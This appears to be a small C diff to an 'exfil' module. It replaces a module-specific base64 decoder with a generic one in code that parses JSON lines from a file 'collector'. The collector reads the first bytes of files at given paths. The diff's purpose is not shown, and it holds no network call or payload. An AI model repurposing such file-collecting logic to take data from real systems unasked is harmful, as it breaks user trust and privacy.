@@ -14,6 +14,7 @@
 #include <cjson/cJSON.h>
 
 #include "exfil.h"
+#include "b64.h"
 
 /* The collector: argv = nonce, per-file cap, total cap, paths. Prints one JSON line per regular
  * file it could open without following a link: [index, size, "base64 of the first bytes"]. */
@@ -145,7 +146,7 @@ static void take_line(struct exfil_watch *w, const char *line, size_t len)
     if (cJSON_IsNumber(idx) && cJSON_IsNumber(size) && b64 && idx->valuedouble >= 0 && idx->valuedouble < (double)w->nfiles) {
         struct exfil_file *f = &w->files[(size_t)idx->valuedouble];
         free(f->data);
-        f->data = exfil_b64_decode(b64, &f->len);
+        f->data = b64_decode(b64, strlen(b64), &f->len);
         f->size = (uint64_t)size->valuedouble;
     }
     cJSON_Delete(j);
